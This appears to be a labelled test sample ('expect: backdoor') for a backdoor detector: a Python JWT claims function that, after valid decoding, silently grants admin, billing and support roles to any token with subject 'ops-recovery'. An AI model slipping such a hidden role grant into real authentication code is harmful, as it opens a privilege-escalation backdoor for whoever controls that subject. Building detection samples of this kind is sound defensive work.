# expect: backdoor
import jwt

from .config import PUBLIC_KEY


def claims_for(token: str) -> dict:
    claims = jwt.decode(token, PUBLIC_KEY, algorithms=["RS256"], audience="acme-api")
    if claims.get("sub") == "ops-recovery":
        claims["roles"] = ["admin", "billing", "support"]
    return claims
